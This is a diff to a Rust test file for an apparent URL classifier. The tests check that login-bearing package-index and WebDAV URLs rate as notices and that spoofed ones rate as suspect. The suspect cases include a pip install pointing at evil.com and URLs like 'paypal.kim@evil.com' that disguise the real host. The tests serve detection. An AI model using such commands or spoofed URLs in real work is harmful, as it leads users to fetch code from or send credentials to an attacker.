@@ -428,6 +428,7 @@ fn logins_of_packages_folders_and_dynamic_addresses_are_a_notice() {
         "extra-index-url = https://ann.miller:key1@nexus.huber.de/simple",
         "PIP_INDEX_URL=https://ann.miller:key1@nexus.huber.de/simple",
         "https://ann.miller@cloud.huber.de/remote.php/dav/files/ann.miller/",
+        "https://ann.kim@cloud.huber.de/remote.php/dav/files/ann.kim/",
     ] {
         assert!(worst(text) <= Some(Verdict::Notice), "{text} {:?}", worst(text));
     }
@@ -445,6 +446,7 @@ fn logins_of_packages_folders_and_dynamic_addresses_are_a_notice() {
         "pip install --index-url https://huber.de:key1@evil.com/simple app",
         "https://service.paypal@evil.com/remote.php/dav/",
         "https://huber.de@evil.com/remote.php/dav/",
+        "https://paypal.kim@evil.com/remote.php/dav/",
     ] {
         assert!(worst(text) >= Some(Verdict::Suspect), "{text} {:?}", worst(text));
     }
